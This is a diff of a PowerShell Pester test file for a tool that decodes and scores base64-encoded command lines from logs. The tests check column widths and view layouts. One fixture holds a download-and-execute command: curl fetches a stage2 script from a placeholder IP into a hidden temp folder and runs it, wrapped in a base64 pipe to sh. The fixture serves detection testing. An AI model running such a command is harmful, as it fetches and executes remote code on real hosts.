@@ -520,8 +520,9 @@ Describe 'Table headers are properties' {
         ($scores | Where-Object Alert -gt 0).DecodedCommand | Should -Be ($scores | Where-Object AlertScore -gt 0).DecodedCommand
         $scores[0].Sev | Should -Be $scores[0].SevScore
         $scores[0].Freq | Should -Be $scores[0].FreqScore
-        # The headers really are those of the default view.
-        ($scores | Select-Object -First 3 | Format-Table | Out-String -Width 200) | Should -BeLike '*Freq*Sev*Alert*Count*Hosts*'
+        # The headers really are those of the views (Freq, Sev and Alert in the Wide one).
+        ($scores | Select-Object -First 3 | Format-Table | Out-String -Width 200) | Should -BeLike '*Count*Hosts*'
+        ($scores | Select-Object -First 3 | Format-Table -View Wide | Out-String -Width 250) | Should -BeLike '*Freq*Sev*Alert*Count*Hosts*'
     }
 
     It 'filters Iocs by Private and CommandEvents by Count' {
@@ -720,5 +721,44 @@ Describe 'Times travel as ISO 8601 UTC' {
     It 'keeps the DateTime properties DateTimes for sorting and filtering' {
         $TimedEvents[0].TimeGenerated | Should -BeOfType ([datetime])
         @($TimedEvents | Where-Object TimeGenerated -gt ([datetime]'2026-01-01')).Count | Should -Be @($TimedEvents).Count
+    }
+}
+
+Describe 'Default views at 80 columns' {
+    BeforeAll {
+        $script:Long = 'curl -s http://203.0.113.7/stage2.sh -o /tmp/.cache/s.sh && chmod +x /tmp/.cache/s.sh && /tmp/.cache/s.sh'
+        $b64 = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($Long))
+        $script:LongEvent = Get-B64Command -CommandLine "echo $b64 | base64 -d | sh" -Computer 'aks-nodepool1-12345678-vmss000003' -TimeGenerated '2026-10-02T13:01:12Z' -Account root | Add-B64Category
+        function script:Shown([string] $Text) {
+            # The decoded-command cell of the first row: from the header's DecodedCommand column to the line's end.
+            $lines = $Text -split "`r?`n" | Where-Object { $_.Trim() }
+            $at = $lines[0].IndexOf('DecodedCommand')
+            $lines[2].Substring($at).TrimEnd('…').Length
+        }
+    }
+
+    It 'leaves DecodedCommand at least 35 columns in the event and score tables at 80' {
+        $t = $LongEvent | Format-Table | Out-String -Width 80
+        ($t -split "`r?`n" | ForEach-Object Length | Measure-Object -Maximum).Maximum | Should -BeLessOrEqual 80
+        Shown $t | Should -BeGreaterOrEqual 35
+        $s = $LongEvent | Measure-B64Score | Format-Table | Out-String -Width 80
+        Shown $s | Should -BeGreaterOrEqual 35
+    }
+
+    It 'lists DecodedCommand before CommandLine and EncodedText (the base64 blobs)' {
+        $list = ($LongEvent | Format-List | Out-String -Width 200) -split "`r?`n"
+        $at = { param($label) [array]::FindIndex([string[]]$list, [Predicate[string]] { param($l) $l -match "^$label\s+:" }) }
+        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'CommandLine')
+        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'EncodedText')
+        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'Categories')
+        $score = ($LongEvent | Measure-B64Score | Format-List | Out-String -Width 200) -split "`r?`n"
+        $list = $score
+        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'FreqScore')
+    }
+
+    It 'has a Wide event view with Account and Categories' {
+        $w = $LongEvent | Format-Table -View Wide | Out-String -Width 200
+        $w | Should -BeLike '*Account*Categories*DecodedCommand*'
+        $w | Should -BeLike '*root*Network connections/Downloading*curl -s*'
     }
 }
